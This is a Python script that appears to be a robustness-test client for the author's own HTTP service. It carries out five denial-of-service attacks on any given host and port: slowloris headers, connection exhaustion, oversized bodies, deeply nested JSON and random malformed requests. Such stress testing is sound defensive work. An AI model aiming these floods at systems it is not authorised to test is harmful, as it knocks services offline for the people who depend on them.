#!/usr/bin/env python3
"""A client that means no good, until it is killed: attack.py KIND HOST PORT. Gives way to every other
process of the machine, as one that sits elsewhere would."""

import os
import random
import select
import socket
import sys
import threading
import time

MANY = 10_000
SLOW = 1_000
THREADS = 16


def connect(place):
    connection = socket.create_connection(place, timeout=10)
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return connection


def send(place, data):
    """And reads what comes back, until either side ends it."""
    try:
        with connect(place) as connection:
            connection.sendall(data)
            connection.shutdown(socket.SHUT_WR)
            while connection.recv(65536):
                pass
    except OSError:
        pass


def again_and_again(attack):
    """On several threads at once."""
    def repeat():
        while True:
            attack()
    for _ in range(THREADS):
        threading.Thread(target=repeat, daemon=True).start()
    threading.Event().wait()


def slow_headers(place):
    """A byte a second each."""
    connections = [connect(place) for _ in range(SLOW)]
    for connection in connections:
        connection.sendall(b"GET /livez HTTP/1.1\r\nX-A: ")
    while True:
        for number, connection in enumerate(connections):
            try:
                connection.sendall(b"a")
            except OSError:
                connections[number] = connect(place)
        time.sleep(1)


def many_connections(place):
    """Kept open; those that the server ends are opened anew."""
    poll = select.poll()
    opened = {}
    while True:
        while len(opened) < MANY:
            try:
                connection = connect(place)
            except OSError:
                break
            opened[connection.fileno()] = connection
            poll.register(connection, select.POLLIN)
        for descriptor, _ in poll.poll(100):
            poll.unregister(descriptor)
            opened.pop(descriptor).close()


def huge_bodies(place):
    head = b"POST /api/v1/session HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
    told = head + b"Content-Length: 4000000\r\n\r\n" + b'"' + b"a" * 3_999_999
    untold = head + b"Transfer-Encoding: chunked\r\n\r\n" + (b"10000\r\n" + b"a" * 65536 + b"\r\n") * 80
    again_and_again(lambda: send(place, random.choice((told, untold))))


def deep_json(place):
    body = b'{"a":' * 170_000
    data = (b"POST /api/v1/session HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
            b"Content-Length: %d\r\n\r\n%s" % (len(body), body))
    again_and_again(lambda: send(place, data))


def random_bytes(place):
    shapes = (b"", b"GET ", b"GET /livez HTTP/1.1\r\n", b"POST / HTTP/1.1\r\nContent-Length: 9\r\n",
              b"GET /livez?")
    again_and_again(lambda: send(place, random.choice(shapes) + random.randbytes(
        random.randrange(2000)) + b"\r\n\r\n"))


KINDS = {"slow headers": slow_headers, "10,000 connections": many_connections,
         "huge bodies": huge_bodies, "deep JSON": deep_json, "random bytes": random_bytes}


if __name__ == "__main__":
    os.nice(19)
    KINDS[sys.argv[1]]((sys.argv[2], int(sys.argv[3])))
